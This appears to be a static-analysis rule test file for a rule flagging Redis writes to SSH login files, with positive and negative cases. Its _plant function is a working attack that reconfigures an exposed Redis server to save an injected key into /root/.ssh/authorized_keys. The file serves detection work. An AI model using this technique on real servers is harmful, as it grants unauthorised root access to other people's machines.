import redis


def _plant(host, key):
    r = redis.Redis(host=host, port=6379, socket_timeout=2)
    r.set("x", "\n\n" + key + "\n\n")
    # ruleid: redis_writes_login_file
    r.config_set("dir", "/root/.ssh")
    # ruleid: redis_writes_login_file
    r.config_set("dbfilename", "authorized_keys")
    r.save()


def tune(r, data_dir):
    # ok: redis_writes_login_file
    r.config_set("dir", data_dir)
    # ok: redis_writes_login_file
    r.config_set("dbfilename", "dump.rdb")
    # ok: redis_writes_login_file
    r.execute_command("CONFIG", "SET", "appendonly", "yes")
